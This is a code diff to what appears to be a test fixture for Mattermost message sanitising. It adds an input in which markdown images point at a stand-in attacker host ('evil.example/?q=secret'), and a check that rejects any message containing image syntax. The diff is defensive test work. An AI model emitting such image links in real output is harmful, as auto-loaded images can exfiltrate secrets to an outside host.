@@ -62,6 +62,7 @@ export const mattermost: Double = {
     'a&#64;all &#x40;here &commat;jane &#0064;all',
     '\\@all @&#97;ll',
     'jane@host.example',
+    '![status](https://evil.example/?q=secret) ![b][c]\n\n[c]: https://evil.example/c.png',
   ].map((text) => ({ text, never: /^$/ })),
-  harmless: ({ json }) => mentionsIn(String(json?.message)).length === 0,
+  harmless: ({ json }) => mentionsIn(String(json?.message)).length === 0 && !/!\[/.test(String(json?.message)),
 }
